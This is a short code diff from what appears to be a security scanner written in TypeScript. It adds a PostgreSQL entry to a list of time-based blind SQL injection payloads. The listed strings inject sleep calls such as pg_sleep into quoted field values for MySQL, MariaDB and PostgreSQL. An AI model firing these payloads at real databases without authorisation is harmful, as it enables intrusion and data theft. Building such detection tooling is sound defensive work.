@@ -26,6 +26,11 @@ const naps: readonly Nap[] = [
   { database: 'MySQL or MariaDB', value: (own, seconds) => `${own}' AND ${mysql(seconds)} AND '1'='1` },
   { database: 'PostgreSQL', value: (own, seconds) => `${own} AND ${postgres(seconds)}` },
   { database: 'PostgreSQL', value: (own, seconds) => `${own}' AND ${postgres(seconds)} AND '1'='1` },
+  // A part of a text is worked out wherever the text stands, as in what an INSERT keeps.
+  {
+    database: 'PostgreSQL',
+    value: (own, seconds) => `${own}'||(SELECT COUNT(*) FROM pg_sleep(${seconds}))||'`,
+  },
   // Where nothing is found by the value itself, as by a name that nobody has, a database does not look any further.
   { database: 'MySQL or MariaDB', value: (own, seconds) => `${own}' OR ${asleep(seconds)} OR '1'='2` },
   { database: 'MySQL or MariaDB', value: (own, seconds) => `${own}" OR ${asleep(seconds)} OR "1"="2` },
